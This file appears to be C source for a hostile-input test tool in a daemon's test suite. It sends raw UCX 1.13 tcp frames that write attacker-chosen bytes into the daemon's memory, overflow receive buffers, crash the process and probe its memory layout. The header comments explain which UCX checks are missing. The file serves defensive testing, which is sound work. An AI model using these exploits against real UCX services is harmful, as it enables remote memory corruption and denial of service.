/* SPDX-License-Identifier: BSD-2-Clause */
/* raw_uct: plain tcp bytes to a daemon's UCX tcp interface sockets, in
 * UCX 1.13's own framing, without any UCX of ours (tests/hostile.sh,
 * class uct-raw). UCX's tcp takes, after an 8-byte magic number and
 * before any connection request, every fragment a connection sends
 * (src/uct/tcp/tcp_ep.c, uct_tcp_ep_progress_am_rx, state ACCEPTING):
 *
 *   put       a PUT_REQ fragment (internal AM id 33) naming an address in
 *             the daemon's first region mapping (/proc/PID/maps,
 *             memfd:rmad-region), then 64 bytes for it ("UCTGUARD"
 *             repeated): UCX's tcp has no remote keys and memcpy()s them
 *             there;
 *   oversize  an AM fragment whose length is far above the receive
 *             segment (checked only by an assertion, compiled out in
 *             release builds), then 64 KiB: the receive goes on past the
 *             end of UCX's buffer;
 *   sockcm    to the listener's port instead (UCX's sockcm, under ucp's
 *             listener): a private data header announcing 0 bytes, then
 *             100 (UCX checks the count only by an assertion, before
 *             rmad hears of the connection);
 *   crash     the put, to address 0x10000 (unmapped: UCX's memcpy kills
 *             the daemon; no knowledge of its address space needed);
 *   oracle    the put's headers alone, then (after a bounded wait for the
 *             daemon to close) its data: UCX's recv() straight into an
 *             unwritable address fails with EFAULT and UCX closes the
 *             connection, a writable one keeps it open, so a sender
 *             learns what is mapped without a crash;
 *   runaway   the put, then close at once, without waiting to see
 *             whether the daemon keeps the connection: the daemon may
 *             find our socket still open, or orphaned (FIN_WAIT, which
 *             the kernel reports as uid 0);
 *   idle      nothing: how many connections the daemon keeps is all
 *             (all of them are opened first and held together, up to
 *             RAW_UCT_HELD, then looked at together, 2 s at most).
 *
 * The sockets are the daemon's listening tcp ports other than its
 * listener's (`ss -ltnpH`), or those given with --ports (every attack is
 * then sent to each, the listener's included), at --host (127.0.0.1).
 * The put's target is the daemon's first region (/proc/PID/maps), or
 * --target: another user can read neither, so its caller tells it.
 * --bind picks our source address ("any": the kernel's), --count how many
 * connections each port gets (one after the other). Prints one line per port:
 * whether the daemon closed the connections before any byte of ours (refused at
 * accept) or kept them. Exit 0 when it ran. */
#include <arpa/inet.h>
#include <errno.h>
#include <getopt.h>
#include <netinet/in.h>
#include <poll.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

#include "monotime.h"

#define RAW_UCT_MAGIC 0xCAFEBABE12345678ull /* UCT_TCP_MAGIC_NUMBER */
#define RAW_UCT_AM_PUT_REQ 33		    /* UCT_AM_ID_MAX + 1 */
#define RAW_UCT_PORTS 32
#define RAW_UCT_HELD 256

struct raw_uct_am_hdr { /* uct_tcp_am_hdr_t */
	uint8_t am_id;
	uint32_t length;
} __attribute__((packed));

struct raw_uct_put_req { /* uct_tcp_ep_put_req_hdr_t */
	uint64_t addr;
	uint64_t length;
	uint32_t sn;
} __attribute__((packed));

static size_t
raw_uct_ports(int pid, uint16_t listener, uint16_t *out, size_t max)
{
	char line[512], needle[32], local[128], *colon;
	size_t n = 0;
	FILE *f = popen("ss -ltnpH 2>/dev/null", "r");

	if (f == NULL)
		return 0;
	snprintf(needle, sizeof(needle), "pid=%d,", pid);
	while (fgets(line, sizeof(line), f) != NULL && n < max) {
		if (strstr(line, needle) == NULL ||
		    sscanf(line, "%*s %*s %*s %127s", local) != 1)
			continue;
		colon = strrchr(local, ':');
		if (colon == NULL || strncmp(local, "127.0.0.1", 9) != 0)
			continue;
		if ((uint16_t)atoi(colon + 1) != listener)
			out[n++] = (uint16_t)atoi(colon + 1);
	}
	pclose(f);
	return n;
}

static uint64_t
raw_uct_region(int pid)
{
	char path[64], line[512];
	unsigned long long start = 0;
	FILE *f;

	snprintf(path, sizeof(path), "/proc/%d/maps", pid);
	f = fopen(path, "r");
	if (f == NULL)
		return 0;
	while (fgets(line, sizeof(line), f) != NULL) {
		if (strstr(line, "rmad-region") != NULL &&
		    sscanf(line, "%llx-", &start) == 1)
			break;
	}
	fclose(f);
	return start;
}

/* 1 when the peer closed the connection within ms, before we sent. */
static int
raw_uct_closed(int fd, int ms)
{
	struct pollfd p = {.fd = fd, .events = POLLIN};
	char c;

	if (poll(&p, 1, ms) <= 0)
		return 0;
	return recv(fd, &c, 1, MSG_DONTWAIT) <= 0;
}

static void
raw_uct_send(int fd, const void *buf, size_t len)
{
	const char *p = buf;

	while (len > 0) {
		ssize_t n = send(fd, p, len, MSG_NOSIGNAL);
		if (n <= 0)
			return; /* closed: what the daemon did is reported */
		p += n;
		len -= (size_t)n;
	}
}

static void
raw_uct_put_data(int fd)
{
	char data[64];

	for (size_t i = 0; i < sizeof(data); i += 8)
		memcpy(data + i, "UCTGUARD", 8);
	raw_uct_send(fd, data, sizeof(data));
}

static void
raw_uct_attack(int fd, const char *attack, uint64_t target)
{
	uint64_t magic = RAW_UCT_MAGIC;
	static char junk[65536];

	if (strcmp(attack, "idle") == 0)
		return;
	if (strcmp(attack, "sockcm") == 0) {
		/* uct_tcp_sockcm_priv_data_hdr_t: size_t length, uint8_t
		 * status, padded to 16 */
		char hdr[16 + 100];
		memset(hdr, 0, 16);
		memset(hdr + 16, 0x41, 100);
		raw_uct_send(fd, hdr, sizeof(hdr));
		return;
	}
	raw_uct_send(fd, &magic, sizeof(magic));
	if (strcmp(attack, "crash") == 0)
		target = 0x10000;
	if (strcmp(attack, "oracle") == 0) {
		struct raw_uct_am_hdr h = {RAW_UCT_AM_PUT_REQ,
					   sizeof(struct raw_uct_put_req)};
		struct raw_uct_put_req r = {target, 128, 0};
		raw_uct_send(fd, &h, sizeof(h));
		raw_uct_send(fd, &r, sizeof(r));
		/* UCX now recv()s into target itself: a close says that
		 * it is unwritable (bounded; the daemon's counters decide) */
		if (!raw_uct_closed(fd, 200))
			raw_uct_put_data(fd);
	} else if (strcmp(attack, "put") == 0 || strcmp(attack, "crash") == 0) {
		struct raw_uct_am_hdr h = {RAW_UCT_AM_PUT_REQ,
					   sizeof(struct raw_uct_put_req)};
		/* 128 bytes announced, 64 sent: a complete put would
		 * have UCX acknowledge it, and 1.13 aborts on an
		 * acknowledgement before the handshake (tcp_ep.c:72) */
		struct raw_uct_put_req r = {target, 128, 0};
		raw_uct_send(fd, &h, sizeof(h));
		raw_uct_send(fd, &r, sizeof(r));
		raw_uct_put_data(fd);
	} else {
		struct raw_uct_am_hdr h = {0, 0xffffff00u};
		memset(junk, 0x41, sizeof(junk));
		raw_uct_send(fd, &h, sizeof(h));
		raw_uct_send(fd, junk, sizeof(junk));
	}
}

static int
raw_uct_connect(const char *host, const char *bind_ip, uint16_t port)
{
	struct sockaddr_in src = {.sin_family = AF_INET};
	struct sockaddr_in dst = {.sin_family = AF_INET,
				  .sin_port = htons(port)};
	int fd = socket(AF_INET, SOCK_STREAM, 0);

	inet_pton(AF_INET, bind_ip, &src.sin_addr);
	inet_pton(AF_INET, host, &dst.sin_addr);
	if (fd < 0 ||
	    (strcmp(bind_ip, "any") != 0 &&
	     bind(fd, (void *)&src, sizeof(src)) < 0) ||
	    connect(fd, (void *)&dst, sizeof(dst)) < 0) {
		fprintf(stderr, "raw_uct: port %u: %s\n", port,
			strerror(errno));
		if (fd >= 0)
			close(fd);
		return -1;
	}
	return fd;
}

/* All connections at once, held until each was looked at: the daemon
 * decides at accept, so the count it keeps is all this says. */
static int
raw_uct_idle(const char *host, const char *bind_ip, const uint16_t *ports,
	     size_t n, int count)
{
	int fds[RAW_UCT_HELD], refused = 0, kept = 0;
	size_t total = n * (size_t)count, k;

	if (total > RAW_UCT_HELD)
		total = RAW_UCT_HELD;
	for (k = 0; k < total; k++) {
		fds[k] = raw_uct_connect(host, bind_ip, ports[k % n]);
		if (fds[k] < 0) {
			while (k > 0)
				close(fds[--k]);
			return 1;
		}
	}
	/* Looked at together, for 2 s at most: one at a time, every kept
	 * one cost its full wait, which under load outlasted the window
	 * guard_netns.sh measures in (8 kept: 8 s). */
	{
		struct pollfd p[RAW_UCT_HELD];
		bool closed[RAW_UCT_HELD] = {false};
		double end = monotime_s() + 2.0;
		size_t open = total;

		for (k = 0; k < total; k++)
			p[k] = (struct pollfd){.fd = fds[k], .events = POLLIN};
		while (open > 0 && monotime_s() < end) {
			int ms = (int)((end - monotime_s()) * 1000) + 1;

			if (poll(p, total, ms) < 0 && errno != EINTR)
				break;
			for (k = 0; k < total; k++) {
				char c;

				if (!(p[k].revents &
				      (POLLIN | POLLHUP | POLLERR)))
					continue;
				closed[k] =
				    recv(fds[k], &c, 1, MSG_DONTWAIT) <= 0;
				p[k].fd = -1; /* looked at: the answer stands */
				open--;
			}
		}
		for (k = 0; k < total; k++) {
			if (closed[k])
				refused++;
			else
				kept++;
			close(fds[k]);
		}
	}
	printf("raw_uct: %d connections closed at accept, %d kept\n", refused,
	       kept);
	return 0;
}

int
main(int argc, char **argv)
{
	const char *bind_ip = "127.0.0.1", *host = "127.0.0.1", *attack = "put",
		   *port_list = NULL;
	int pid = 0, refused = 0, kept = 0, ran = 0, count = 1;
	uint16_t listener = 0, ports[RAW_UCT_PORTS];
	uint64_t target = 0;
	size_t n;
	int opt;

	static const struct option opts[] = {
	    {"pid", required_argument, NULL, 'p'},
	    {"listener", required_argument, NULL, 'l'},
	    {"bind", required_argument, NULL, 'b'},
	    {"attack", required_argument, NULL, 'a'},
	    {"count", required_argument, NULL, 'c'},
	    {"host", required_argument, NULL, 'h'},
	    {"ports", required_argument, NULL, 'P'},
	    {"target", required_argument, NULL, 't'},
	    {NULL, 0, NULL, 0},
	};
	while ((opt = getopt_long(argc, argv, "", opts, NULL)) != -1) {
		switch (opt) {
		case 'p':
			pid = atoi(optarg);
			break;
		case 'l':
			listener = (uint16_t)atoi(optarg);
			break;
		case 'b':
			bind_ip = optarg;
			break;
		case 'a':
			attack = optarg;
			break;
		case 'c':
			count = atoi(optarg);
			break;
		case 'h':
			host = optarg;
			break;
		case 'P':
			port_list = optarg;
			break;
		case 't':
			target = strtoull(optarg, NULL, 0);
			break;
		default:
			return 2;
		}
	}
	if ((pid <= 0 && (port_list == NULL || target == 0)) ||
	    (strcmp(attack, "put") != 0 && strcmp(attack, "oversize") != 0 &&
	     strcmp(attack, "sockcm") != 0 && strcmp(attack, "crash") != 0 &&
	     strcmp(attack, "oracle") != 0 && strcmp(attack, "runaway") != 0 &&
	     strcmp(attack, "idle") != 0)) {
		fprintf(
		    stderr,
		    "usage: raw_uct {--pid PID --listener PORT | --ports "
		    "P1,P2,... --target ADDR} [--host IP] [--bind IP] "
		    "[--attack put|oversize|sockcm|crash|oracle|runaway|idle] "
		    "[--count N]\n");
		return 2;
	}
	if (target == 0)
		target = raw_uct_region(pid);
	if (port_list != NULL) {
		char *copy = strdup(port_list), *tok, *save = NULL;
		n = 0;
		for (tok = strtok_r(copy, ",", &save);
		     tok != NULL && n < RAW_UCT_PORTS;
		     tok = strtok_r(NULL, ",", &save))
			ports[n++] = (uint16_t)atoi(tok);
		free(copy);
	} else {
		n = raw_uct_ports(pid, listener, ports, RAW_UCT_PORTS);
	}
	if (strcmp(attack, "sockcm") == 0 && port_list == NULL) {
		ports[0] = listener;
		n = 1;
	}
	if (n == 0 || target == 0) {
		fprintf(stderr, "raw_uct: %zu ports, region at %#llx\n", n,
			(unsigned long long)target);
		return 1;
	}
	if (strcmp(attack, "idle") == 0)
		return raw_uct_idle(host, bind_ip, ports, n, count);
	for (size_t k = 0; k < n * (size_t)count; k++) {
		size_t i = k % n;
		struct sockaddr_in src = {.sin_family = AF_INET};
		struct sockaddr_in dst = {.sin_family = AF_INET,
					  .sin_port = htons(ports[i])};
		int fd = socket(AF_INET, SOCK_STREAM, 0);

		inet_pton(AF_INET, bind_ip, &src.sin_addr);
		inet_pton(AF_INET, host, &dst.sin_addr);
		if (fd < 0 ||
		    (strcmp(bind_ip, "any") != 0 &&
		     bind(fd, (void *)&src, sizeof(src)) < 0) ||
		    connect(fd, (void *)&dst, sizeof(dst)) < 0) {
			fprintf(stderr, "raw_uct: port %u: %s\n", ports[i],
				strerror(errno));
			return 1;
		}
		if (strcmp(attack, "runaway") == 0) {
			/* no look at what the daemon does: the put, then
			 * close, so that its socket is orphaned (uid 0 in
			 * the kernel's eyes) when the daemon asks whose */
			raw_uct_attack(fd, "put", target);
			ran++;
		} else if (raw_uct_closed(fd, 1000)) {
			if (k < n)
				printf("raw_uct: port %u: closed at accept\n",
				       ports[i]);
			refused++;
		} else {
			raw_uct_attack(fd, attack, target);
			/* bounded: the daemon's reaction is judged later */
			raw_uct_closed(fd, 500);
			printf("raw_uct: port %u: kept, %s sent (target "
			       "%#llx)\n",
			       ports[i], attack, (unsigned long long)target);
			kept++;
		}
		close(fd);
	}
	if (ran > 0)
		printf(
		    "raw_uct: %d connections sent a put and closed at once\n",
		    ran);
	else
		printf("raw_uct: %d connections closed at accept, %d kept\n",
		       refused, kept);
	return 0;
}
